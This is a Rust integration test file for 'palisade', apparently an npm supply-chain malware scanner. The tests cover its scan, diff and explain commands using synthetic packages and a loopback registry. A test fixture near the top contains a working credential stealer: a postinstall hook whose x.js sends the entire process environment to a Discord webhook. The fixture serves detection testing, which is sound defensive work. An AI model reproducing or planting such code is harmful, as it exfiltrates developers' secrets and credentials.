//! `palisade scan`, `diff`, `explain` and `check --scan` end to end, offline: synthetic packages
//! built in the test (tarballs, directories, encrypted zips), a loopback registry, temp git repos.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

/// A postinstall that runs a file sending the whole environment to a Discord webhook: the
/// shape of countless credential stealers (and of the Shai-Hulud harvesting step).
const STEALER_MANIFEST: &str = r#"{"name": "evil-pkg", "version": "1.0.0", "main": "index.js",
  "scripts": {"postinstall": "node x.js"}}"#;
const STEALER_JS: &str = r#"const https = require('https');
const payload = JSON.stringify({ content: JSON.stringify(process.env) });
const req = https.request('https://discord.com/api/webhooks/1183429512345678901/abcdefghijklmnop', {
  method: 'POST',
  headers: { 'Content-Type': 'application/json' },
});
req.write(payload);
req.end();
"#;
const CLEAN_MANIFEST: &str = r#"{"name": "pad-left-ok", "version": "1.0.0", "main": "index.js", "license": "MIT"}"#;
const CLEAN_JS: &str =
    "'use strict';\nmodule.exports = function padLeft(text, width) {\n  return String(text).padStart(width);\n};\n";

fn stealer_files() -> Vec<(&'static str, &'static str)> {
    vec![
        ("package.json", STEALER_MANIFEST),
        ("x.js", STEALER_JS),
        ("index.js", "module.exports = 1;\n"),
    ]
}

fn clean_files() -> Vec<(&'static str, &'static str)> {
    vec![("package.json", CLEAN_MANIFEST), ("index.js", CLEAN_JS)]
}

/// An npm-style tarball: gzip'd tar with every file under `package/`.
fn tgz(files: &[(&str, &str)]) -> Vec<u8> {
    let encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut builder = tar::Builder::new(encoder);
    for (path, text) in files {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("package/{path}"), text.as_bytes())
            .expect("append");
    }
    builder.into_inner().expect("tar").finish().expect("gzip")
}

/// A ZipCrypto-encrypted zip with the package under `package/` (the corpus layout).
fn encrypted_zip(files: &[(&str, &str)], password: &str) -> Vec<u8> {
    use zip::unstable::write::FileOptionsExt;
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .with_deprecated_encryption(password.as_bytes());
    for (path, text) in files {
        writer
            .start_file(format!("package/{path}"), options)
            .expect("start file");
        writer.write_all(text.as_bytes()).expect("write");
    }
    writer.finish().expect("finish").into_inner()
}

fn palisade(cwd: &Path, home: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(args)
        .current_dir(cwd)
        .env("PALISADE_HOME", home)
        .env("HOME", home)
        // npm's own cache is a read-only tarball source: keep the developer's out of the tests.
        .env("npm_config_cache", home.join("npm-cache"))
        .env_remove("PALISADE_LOG")
        .env_remove("npm_config_registry")
        .env_remove("NPM_CONFIG_REGISTRY")
        .env_remove("npm_config_userconfig")
        .env_remove("NPM_CONFIG_USERCONFIG")
        .env("NO_COLOR", "1")
        .output()
        .expect("the palisade binary runs")
}

fn json(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| {
        panic!(
            "{error}\nstdout: {}\nstderr: {}",
            String::from_utf8_lossy(&output.stdout),
            String::from_utf8_lossy(&output.stderr)
        )
    })
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn sri(bytes: &[u8]) -> String {
    palisade_registry::Integrity::compute(palisade_registry::Algorithm::Sha512, bytes).to_string()
}

/// A loopback registry answering `routes` (exact path → body), 404 otherwise, until the test
/// ends. `routes` gets the base URL so documents can point at its own tarballs.
fn serve_routes(routes: impl FnOnce(&str) -> Vec<(String, Vec<u8>)>) -> String {
    use std::io::Read;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind loopback");
    let address = listener.local_addr().expect("local address");
    let base = format!("http://{address}/");
    let routes: std::collections::HashMap<String, Vec<u8>> = routes(&base).into_iter().collect();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut request = [0u8; 8192];
            let read = stream.read(&mut request).unwrap_or(0);
            let text = String::from_utf8_lossy(&request[..read]);
            let path = text.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let path = path.trim_end_matches('/');
            let mut response = match routes.get(path) {
                Some(body) => format!(
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    body.len()
                )
                .into_bytes(),
                None => b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n".to_vec(),
            };
            if let Some(body) = routes.get(path) {
                response.extend_from_slice(body);
            }
            let _ = stream.write_all(&response);
        }
    });
    base
}

/// `evil-pkg` 0.9.0 (clean) and 1.0.0 (the stealer), and `pad-left-ok` 1.0.0, as a registry
/// would serve them: packuments with `time`, version documents and tarballs.
fn serve_registry() -> String {
    serve_routes(|base| {
        let evil_old = tgz(&[
            (
                "package.json",
                r#"{"name": "evil-pkg", "version": "0.9.0", "main": "index.js"}"#,
            ),
            ("index.js", "module.exports = 1;\n"),
        ]);
        let evil = tgz(&stealer_files());
        let clean = tgz(&clean_files());
        let version = |name: &str, version: &str, bytes: &[u8], scripts: Value| {
            serde_json::json!({"name": name, "version": version, "scripts": scripts,
                "dist": {"tarball": format!("{base}{name}/-/{name}-{version}.tgz"), "integrity": sri(bytes)}})
        };
        let evil_old_doc = version("evil-pkg", "0.9.0", &evil_old, serde_json::json!({}));
        let evil_doc = version(
            "evil-pkg",
            "1.0.0",
            &evil,
            serde_json::json!({"postinstall": "node x.js"}),
        );
        let clean_doc = version("pad-left-ok", "1.0.0", &clean, serde_json::json!({}));
        let evil_packument = serde_json::json!({
            "name": "evil-pkg", "dist-tags": {"latest": "1.0.0"},
            "versions": {"0.9.0": evil_old_doc, "1.0.0": evil_doc},
            "time": {"0.9.0": "2025-01-01T00:00:00.000Z", "1.0.0": "2025-09-08T13:00:00.000000+00:00"}
        });
        let clean_packument = serde_json::json!({
            "name": "pad-left-ok", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": clean_doc},
            "time": {"1.0.0": "2024-01-01T00:00:00Z"}
        });
        vec![
            ("/evil-pkg".into(), evil_packument.to_string().into_bytes()),
            ("/evil-pkg/1.0.0".into(), evil_doc.to_string().into_bytes()),
            ("/evil-pkg/0.9.0".into(), evil_old_doc.to_string().into_bytes()),
            ("/evil-pkg/-/evil-pkg-1.0.0.tgz".into(), evil),
            ("/evil-pkg/-/evil-pkg-0.9.0.tgz".into(), evil_old),
            ("/pad-left-ok".into(), clean_packument.to_string().into_bytes()),
            ("/pad-left-ok/1.0.0".into(), clean_doc.to_string().into_bytes()),
            ("/pad-left-ok/-/pad-left-ok-1.0.0.tgz".into(), clean),
        ]
    })
}

fn first_result(report: &Value) -> &Value {
    &report["results"][0]
}

fn rules_of(result: &Value) -> Vec<String> {
    result["findings"]
        .as_array()
        .map(|findings| {
            findings
                .iter()
                .map(|f| f["rule"].as_str().unwrap_or_default().to_string())
                .collect()
        })
        .unwrap_or_default()
}

#[test]
fn malicious_tarball_is_malicious_with_the_json_contract() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("evil.tgz"), tgz(&stealer_files())).expect("write");
    let output = palisade(dir.path(), dir.path(), &["scan", "evil.tgz", "--format", "json"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json(&output);
    let result = first_result(&report);
    assert_eq!(
        result["package"],
        serde_json::json!({"name": "evil-pkg", "version": "1.0.0"})
    );
    assert_eq!(result["verdict"], "malicious");
    let score = result["score"].as_f64().expect("score is a number");
    assert!((0.0..=1.0).contains(&score) && score >= 0.5, "{score}");
    let findings = result["findings"].as_array().expect("findings");
    assert!(!findings.is_empty());
    for finding in findings {
        for field in ["rule", "severity", "message"] {
            assert!(finding[field].is_string(), "{field} missing in {finding}");
        }
    }
    // The evidence points into the file that does it.
    assert!(
        findings.iter().any(|f| f["file"] == "x.js" && f["line"].is_u64()),
        "{findings:#?}"
    );
    let capabilities: Vec<&str> = result["capabilities"]
        .as_array()
        .expect("capabilities")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    for expected in ["network", "env", "install-script"] {
        assert!(capabilities.contains(&expected), "{capabilities:?}");
    }
    assert_eq!(result["target"], "evil.tgz");
}

#[test]
fn clean_tarball_is_clean_and_exits_zero() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("ok.tgz"), tgz(&clean_files())).expect("write");
    let output = palisade(dir.path(), dir.path(), &["scan", "ok.tgz", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let report = json(&output);
    assert_eq!(first_result(&report)["verdict"], "clean");
    // Table: a clean package is one line.
    let output = palisade(dir.path(), dir.path(), &["scan", "ok.tgz"]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(
        text.starts_with("clean") && text.contains("pad-left-ok@1.0.0"),
        "{text}"
    );
}

#[test]
fn package_directory_is_scanned_and_table_explains() {
    let dir = tempfile::tempdir().expect("temp dir");
    let package = dir.path().join("evil");
    std::fs::create_dir(&package).expect("mkdir");
    for (path, text) in stealer_files() {
        std::fs::write(package.join(path), text).expect("write");
    }
    let output = palisade(dir.path(), dir.path(), &["scan", "evil"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(
        text.starts_with("MALICIOUS ") && text.lines().next().is_some_and(|l| l.contains("evil-pkg@1.0.0")),
        "{text}"
    );
    assert!(text.contains("x.js:"), "{text}");
    assert!(text.contains("capabilities:"), "{text}");
    // With a lockfile the same directory is a project (nothing to fetch here: an empty one).
    std::fs::write(
        package.join("package-lock.json"),
        r#"{"name": "evil-pkg", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "evil-pkg"}}}"#,
    )
    .expect("write");
    let output = palisade(dir.path(), dir.path(), &["scan", "evil", "--format", "json"]);
    assert_eq!(json(&output)["results"], serde_json::json!([]), "{}", stderr(&output));
    // ... unless --package-dir says otherwise.
    let output = palisade(
        dir.path(),
        dir.path(),
        &["scan", "evil", "--package-dir", "--format", "json"],
    );
    assert_eq!(first_result(&json(&output))["verdict"], "malicious");
}

#[test]
fn encrypted_zip_is_read_in_memory_and_a_wrong_password_is_an_input_error() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        dir.path().join("evil-pkg@1.0.0.zip"),
        encrypted_zip(&stealer_files(), "infected"),
    )
    .expect("write");
    std::fs::write(dir.path().join("ok.tgz"), tgz(&clean_files())).expect("write");
    let output = palisade(
        dir.path(),
        dir.path(),
        &[
            "scan",
            "evil-pkg@1.0.0.zip",
            "--zip-password",
            "infected",
            "--format",
            "json",
        ],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_eq!(first_result(&json(&output))["verdict"], "malicious");
    // Nothing was unpacked next to the zip.
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .expect("list")
        .filter_map(|e| e.ok().map(|e| e.file_name().to_string_lossy().into_owned()))
        .filter(|n| !n.starts_with('.') && n != "palisade" && n != "npm-cache")
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");

    // Wrong password: exit 2, the input named, and the other target still reported.
    let output = palisade(
        dir.path(),
        dir.path(),
        &[
            "scan",
            "evil-pkg@1.0.0.zip",
            "ok.tgz",
            "--zip-password",
            "wrong",
            "--format",
            "json",
        ],
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("evil-pkg@1.0.0.zip"), "{}", stderr(&output));
    let report = json(&output);
    assert_eq!(report["results"].as_array().map(Vec::len), Some(1));
    assert_eq!(report["errors"][0]["target"], "evil-pkg@1.0.0.zip");
    // --allow-partial: exit by verdict (the clean one).
    let output = palisade(
        dir.path(),
        dir.path(),
        &[
            "scan",
            "evil-pkg@1.0.0.zip",
            "ok.tgz",
            "--zip-password",
            "wrong",
            "--allow-partial",
        ],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

#[test]
fn missing_target_is_an_input_error() {
    let dir = tempfile::tempdir().expect("temp dir");
    for missing in ["./no/such.tgz", "such.tgz"] {
        let output = palisade(dir.path(), dir.path(), &["scan", missing]);
        assert_eq!(output.status.code(), Some(2));
        assert!(
            stderr(&output).contains(&format!("{missing}: no such file")),
            "{}",
            stderr(&output)
        );
    }
}

#[test]
fn registry_targets_through_a_loopback_registry() {
    let home = tempfile::tempdir().expect("temp dir");
    let registry = serve_registry();
    let output = palisade(
        home.path(),
        home.path(),
        &[
            "scan",
            "evil-pkg@1.0.0",
            "pad-left-ok",
            "--registry",
            &registry,
            "--format",
            "json",
        ],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json(&output);
    let results = report["results"].as_array().expect("results");
    assert_eq!(results.len(), 2);
    assert_eq!(results[0]["package"]["name"], "evil-pkg");
    assert_eq!(results[0]["verdict"], "malicious");
    assert_eq!(
        results[1]["package"],
        serde_json::json!({"name": "pad-left-ok", "version": "1.0.0"})
    );
    assert_eq!(results[1]["verdict"], "clean");
    // The tarball is now cached by integrity: offline works.
    let output = palisade(
        home.path(),
        home.path(),
        &[
            "scan",
            "evil-pkg@1.0.0",
            "--registry",
            &registry,
            "--offline",
            "--format",
            "json",
        ],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    // An unknown package is an input error naming it.
    let output = palisade(
        home.path(),
        home.path(),
        &["scan", "no-such-pkg", "--registry", &registry],
    );
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("no-such-pkg"), "{}", stderr(&output));
}

#[test]
fn against_previous_diffs_with_the_version_published_before() {
    let home = tempfile::tempdir().expect("temp dir");
    let registry = serve_registry();
    let output = palisade(
        home.path(),
        home.path(),
        &[
            "scan",
            "evil-pkg",
            "--against-previous",
            "--registry",
            &registry,
            "--format",
            "json",
        ],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json(&output);
    let previous = &first_result(&report)["previous"];
    assert_eq!(previous["version"], "0.9.0", "{report:#}");
    assert_eq!(previous["high_risk"], true, "{report:#}");
}

#[test]
fn lockfile_packages_are_verified_against_the_lockfile_integrity() {
    let home = tempfile::tempdir().expect("temp dir");
    let registry = serve_registry();
    let clean = tgz(&clean_files());
    let project = tempfile::tempdir().expect("temp dir");
    let lockfile = serde_json::json!({
        "name": "p", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": {
            "": {"name": "p", "version": "1.0.0", "dependencies": {"pad-left-ok": "1.0.0", "evil-pkg": "1.0.0"}},
            "node_modules/pad-left-ok": {"version": "1.0.0",
                "resolved": format!("{registry}pad-left-ok/-/pad-left-ok-1.0.0.tgz"), "integrity": sri(&clean)},
            // The lockfile pinned other bytes than what is served now: never scanned as clean.
            "node_modules/evil-pkg": {"version": "1.0.0",
                "resolved": format!("{registry}evil-pkg/-/evil-pkg-1.0.0.tgz"), "integrity": sri(b"what was locked")}
        }
    });
    std::fs::write(project.path().join("package-lock.json"), lockfile.to_string()).expect("write");
    std::fs::write(
        project.path().join("package.json"),
        r#"{"name": "p", "version": "1.0.0"}"#,
    )
    .expect("write");
    let output = palisade(project.path(), home.path(), &["scan", ".", "--format", "json"]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    let report = json(&output);
    let results = report["results"].as_array().expect("results");
    assert_eq!(results.len(), 2, "{report:#}");
    let clean = results
        .iter()
        .find(|r| r["package"]["name"] == "pad-left-ok")
        .expect("clean one");
    assert_eq!(clean["verdict"], "clean");
    let tampered = results
        .iter()
        .find(|r| r["package"]["name"] == "evil-pkg")
        .expect("tampered one");
    assert_ne!(tampered["verdict"], "clean");
    assert_eq!(rules_of(tampered), vec!["integrity-mismatch"]);
    assert!(tampered["error"].is_string());
    assert_eq!(tampered["findings"][0]["file"], "package-lock.json");
}

#[test]
fn sarif_validates_against_the_official_schema() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("evil.tgz"), tgz(&stealer_files())).expect("write");
    let schema_text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sarif/sarif-schema-2.1.0.json"),
    )
    .expect("the schema fixture is present");
    let schema: Value = serde_json::from_str(&schema_text).expect("the schema is JSON");
    let validator = jsonschema::validator_for(&schema).expect("the schema compiles");
    let output = palisade(dir.path(), dir.path(), &["scan", "evil.tgz", "--format", "sarif"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let document = json(&output);
    let errors: Vec<String> = validator.iter_errors(&document).map(|e| e.to_string()).collect();
    assert!(errors.is_empty(), "SARIF schema violations: {errors:#?}");
    let run = &document["runs"][0];
    let rule_ids: Vec<&str> = run["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .filter_map(|r| r["id"].as_str())
        .collect();
    let results = run["results"].as_array().expect("results");
    assert!(!results.is_empty());
    for result in results {
        assert!(
            rule_ids.contains(&result["ruleId"].as_str().unwrap_or_default()),
            "{result}"
        );
    }
    assert!(results
        .iter()
        .any(|r| r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "evil-pkg@1.0.0/x.js"));
}

#[test]
fn osv_drafts_for_malicious_results_only() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("evil.tgz"), tgz(&stealer_files())).expect("write");
    std::fs::write(dir.path().join("ok.tgz"), tgz(&clean_files())).expect("write");
    let output = palisade(
        dir.path(),
        dir.path(),
        &["scan", "evil.tgz", "ok.tgz", "--format", "osv"],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let records = json(&output);
    let records = records.as_array().expect("an array of OSV records");
    assert_eq!(records.len(), 1);
    let record = &records[0];
    assert!(record["id"].as_str().is_some_and(|id| id.starts_with("MAL-0000-")));
    assert_eq!(record["summary"], "Malicious code in evil-pkg (npm)");
    assert_eq!(
        record["affected"],
        serde_json::json!([{"package": {"ecosystem": "npm", "name": "evil-pkg"}, "versions": ["1.0.0"]}])
    );
    assert!(record["details"].as_str().is_some_and(|d| d.contains("x.js")));
    let rules = record["database_specific"]["palisade"]["rules"]
        .as_array()
        .expect("rule ids");
    assert!(!rules.is_empty());
    for field in ["modified", "published", "schema_version"] {
        assert!(record[field].is_string(), "{field}");
    }
}

#[test]
fn fail_on_suspicious_and_never() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(dir.path().join("evil.tgz"), tgz(&stealer_files())).expect("write");
    let output = palisade(dir.path(), dir.path(), &["scan", "evil.tgz", "--fail-on", "never"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let output = palisade(dir.path(), dir.path(), &["scan", "evil.tgz", "--fail-on", "suspicious"]);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
}

#[test]
fn diff_of_two_tarballs_flags_an_added_install_script() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        dir.path().join("old.tgz"),
        tgz(&[
            (
                "package.json",
                r#"{"name": "evil-pkg", "version": "0.9.0", "main": "index.js"}"#,
            ),
            ("index.js", "module.exports = 1;\n"),
        ]),
    )
    .expect("write");
    std::fs::write(dir.path().join("new.tgz"), tgz(&stealer_files())).expect("write");
    let output = palisade(
        dir.path(),
        dir.path(),
        &["diff", "old.tgz", "new.tgz", "--format", "json"],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json(&output);
    assert_eq!(report["high_risk"], true, "{report:#}");
    let output = palisade(dir.path(), dir.path(), &["diff", "old.tgz", "new.tgz"]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.contains("HIGH-RISK UPDATE"), "{text}");
    // The same version against itself is no risk.
    let output = palisade(
        dir.path(),
        dir.path(),
        &["diff", "new.tgz", "new.tgz", "--format", "json"],
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

#[test]
fn diff_of_registry_versions() {
    let home = tempfile::tempdir().expect("temp dir");
    let registry = serve_registry();
    let output = palisade(
        home.path(),
        home.path(),
        &[
            "diff",
            "evil-pkg",
            "0.9.0",
            "1.0.0",
            "--registry",
            &registry,
            "--format",
            "json",
        ],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert_eq!(json(&output)["high_risk"], true);
}

#[test]
fn explain_lists_rules_and_suggests_close_ids() {
    let dir = tempfile::tempdir().expect("temp dir");
    let output = palisade(dir.path(), dir.path(), &["explain", "--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let list = json(&output);
    let rules = list["rules"].as_array().expect("rules");
    assert!(!rules.is_empty(), "no analyzer rules registered");
    let first = rules[0]["id"].as_str().expect("id").to_string();
    let output = palisade(dir.path(), dir.path(), &["explain", &first]);
    assert_eq!(output.status.code(), Some(0));
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.starts_with(&first) && text.contains("severity:"), "{text}");
    // A typo: exit 2 and the closest id as a hint.
    let typo = format!("{first}x");
    let output = palisade(dir.path(), dir.path(), &["explain", &typo]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains(&first), "{}", stderr(&output));
    let output = palisade(dir.path(), dir.path(), &["explain", "integrity-mismatch"]);
    assert_eq!(output.status.code(), Some(0));
}

fn git(dir: &Path, args: &[&str]) {
    let status = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .current_dir(dir)
        .status()
        .expect("git runs");
    assert!(status.success(), "git {args:?}");
}

fn lockfile_with(registry: &str, packages: &[(&str, &[u8])]) -> String {
    let mut entries = serde_json::json!({"": {"name": "p", "version": "1.0.0"}});
    for (name, bytes) in packages {
        entries[format!("node_modules/{name}")] = serde_json::json!({"version": "1.0.0",
            "resolved": format!("{registry}{name}/-/{name}-1.0.0.tgz"), "integrity": sri(bytes)});
    }
    serde_json::json!({"name": "p", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": entries})
        .to_string()
}

#[test]
fn check_scan_flags_what_a_change_adds_since_a_git_ref() {
    let home = tempfile::tempdir().expect("temp dir");
    let registry = serve_registry();
    let clean = tgz(&clean_files());
    let evil = tgz(&stealer_files());
    let repo = tempfile::tempdir().expect("temp dir");
    let dir = repo.path();
    std::fs::write(dir.join("package.json"), r#"{"name": "p", "version": "1.0.0"}"#).expect("write");
    std::fs::write(
        dir.join("palisade.toml"),
        format!("[registry]\nupstream = \"{registry}\"\nallowed = [\"{registry}\"]\n"),
    )
    .expect("write");
    std::fs::write(
        dir.join("package-lock.json"),
        lockfile_with(&registry, &[("pad-left-ok", &clean)]),
    )
    .expect("write");
    git(dir, &["init", "-q", "-b", "main"]);
    git(dir, &["add", "."]);
    git(dir, &["commit", "-q", "-m", "base"]);
    std::fs::write(
        dir.join("package-lock.json"),
        lockfile_with(&registry, &[("pad-left-ok", &clean), ("evil-pkg", &evil)]),
    )
    .expect("write");

    let output = palisade(
        dir,
        home.path(),
        &["check", "--scan", "--base-ref", "main", "--format", "json"],
    );
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    let report = json(&output);
    let diagnostics = report["diagnostics"].as_array().expect("diagnostics");
    let scan: Vec<&Value> = diagnostics
        .iter()
        .filter(|d| d["code"].as_str().is_some_and(|c| c.starts_with("scan-")))
        .collect();
    assert_eq!(scan.len(), 1, "{diagnostics:#?}");
    assert_eq!(scan[0]["code"], "scan-malicious");
    assert_eq!(scan[0]["level"], "error");
    assert_eq!(
        scan[0]["package"],
        serde_json::json!({"name": "evil-pkg", "version": "1.0.0"})
    );
    assert_eq!(
        report["new_packages"],
        serde_json::json!([{"name": "evil-pkg", "version": "1.0.0"}])
    );

    // SARIF carries it too.
    let output = palisade(
        dir,
        home.path(),
        &["check", "--scan", "--base-ref", "main", "--format", "sarif"],
    );
    let document = json(&output);
    assert!(document["runs"][0]["results"]
        .as_array()
        .expect("results")
        .iter()
        .any(|r| r["ruleId"] == "scan-malicious" && r["level"] == "error"));

    // A ref that does not exist, and a directory that is not a repository: clear input errors.
    let output = palisade(dir, home.path(), &["check", "--scan", "--base-ref", "no-such-branch"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(stderr(&output).contains("no-such-branch"), "{}", stderr(&output));
    let outside = tempfile::tempdir().expect("temp dir");
    std::fs::copy(dir.join("package-lock.json"), outside.path().join("package-lock.json")).expect("copy");
    std::fs::copy(dir.join("package.json"), outside.path().join("package.json")).expect("copy");
    let output = palisade(outside.path(), home.path(), &["check", "--scan", "--base-ref", "main"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(
        stderr(&output).contains("not in a git repository"),
        "{}",
        stderr(&output)
    );
}

/// The real registry (or the mirror .npmrc names): a small popular package at a pinned
/// version is fetched, checked against the registry's integrity, cached and judged clean.
/// Run with `bash scripts/test-live-registry.sh -p palisade-cli`.
#[test]
#[ignore = "needs the npm registry"]
fn live_registry_package_is_fetched_and_clean() {
    let home = tempfile::tempdir().expect("temp dir");
    let output = Command::new(env!("CARGO_BIN_EXE_palisade"))
        .args(["scan", "is-number@7.0.0", "--format", "json"])
        .current_dir(home.path())
        .env("PALISADE_HOME", home.path())
        .env_remove("PALISADE_LOG")
        .output()
        .expect("palisade runs");
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let report = json(&output);
    assert_eq!(
        first_result(&report)["package"],
        serde_json::json!({"name": "is-number", "version": "7.0.0"})
    );
    assert_eq!(first_result(&report)["verdict"], "clean");
}
